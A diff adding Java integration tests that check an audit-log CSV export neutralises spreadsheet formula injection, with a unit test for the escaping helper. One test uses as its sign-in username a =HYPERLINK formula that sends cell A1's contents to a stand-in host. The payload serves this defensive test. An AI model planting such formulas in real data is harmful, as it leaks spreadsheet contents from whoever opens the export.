@@ -140,6 +140,29 @@ class AuditWebIntegrationTests {
     }
 
     @Test
+    void csvExport_defusesAFormulaTypedAsUsernameAtSignIn() throws Exception {
+        String typed = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")-" + UUID.randomUUID().toString()
+                .substring(0, 6);
+        mvc.perform(formLogin("/login").user(typed).password("salah"));
+
+        String csv = mvc.perform(get("/admin/audit/export").param("action", "identity.sign-in-failed")
+                        .with(httpBasic("admin", "netra-demo")))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
+
+        String row = csv.lines().filter(line -> line.contains(typed.substring(typed.length() - 6))).findFirst()
+                .orElseThrow();
+        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(").doesNotContain(",=HYPERLINK(");
+    }
+
+    @Test
+    void csvCells_areDefusedReversibly() {
+        assertThat(AuditLogController.cell("=1+1")).isEqualTo("'=1+1");
+        assertThat(AuditLogController.cell("'=1+1")).isEqualTo("''=1+1");
+        assertThat(AuditLogController.cell("admin")).isEqualTo("admin");
+        assertThat(AuditLogController.cell(null)).isNull();
+    }
+
+    @Test
     void menu_showsTheAuditLogToAdminsOnly() throws Exception {
         assertThat(page(get("/").with(httpBasic("admin", "netra-demo")))).contains("href=\"/admin/audit\"");
         assertThat(page(get("/").with(httpBasic("analyst", "netra-demo")))).doesNotContain("href=\"/admin/audit\"");
